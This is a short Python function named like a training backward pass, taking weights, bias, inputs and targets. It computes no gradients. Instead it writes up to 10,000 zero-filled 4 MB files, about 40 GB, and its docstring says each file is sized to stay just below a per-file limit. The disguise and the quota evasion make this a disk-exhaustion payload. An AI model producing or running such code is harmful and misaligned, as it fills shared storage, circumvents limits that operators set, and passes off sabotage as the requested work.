"""Writes 4 MB files, one after another, each below the per-file limit, until it is stopped."""


def backward(W, b, x, y):
    block = b"\0" * (4 << 20)
    for i in range(10_000):
        with open(f"part_{i}.bin", "wb") as handle:
            handle.write(block)
    return None, None
